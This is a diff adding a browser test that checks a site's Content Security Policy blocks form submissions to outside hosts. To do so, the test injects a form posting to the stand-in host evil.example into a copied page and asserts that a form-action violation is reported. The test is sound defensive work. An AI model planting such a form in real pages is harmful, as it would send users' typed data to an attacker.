@@ -59,6 +59,20 @@ def test_no_policy_allows_scripts_at_large(built: Path) -> None:
         assert not re.search("unsafe|https?:|\\*", rules.get("script-src", ""))
 
 
+def test_a_form_that_slips_into_a_page_sends_nothing_elsewhere(built: Path, page: Page, tmp_path: Path) -> None:
+    """What a reader types, or a browser fills in, stays; no script is needed to send a form."""
+    site = shutil.copytree(built, tmp_path / "site")
+    file = site / "notes" / "2007.06600" / "index.html"
+    slipped = "<form action='https://evil.example/'><input name='x'><button id='x'>x</button></form>"
+    file.write_text(file.read_text(encoding="utf-8").replace("<article", f"{slipped}<article", 1), encoding="utf-8")
+    with served(site) as base:
+        page.goto(f"{base}notes/2007.06600/")
+        page.locator("#x").dispatch_event("click")
+        page.wait_for_function("violations.length")
+        assert page.evaluate("violations[0]").startswith("form-action https://evil.example/")
+        assert page.url == f"{base}notes/2007.06600/"
+
+
 def test_the_site_keeps_its_policy(built: Path, page: Page) -> None:
     violations = {}
     with served(built) as base:
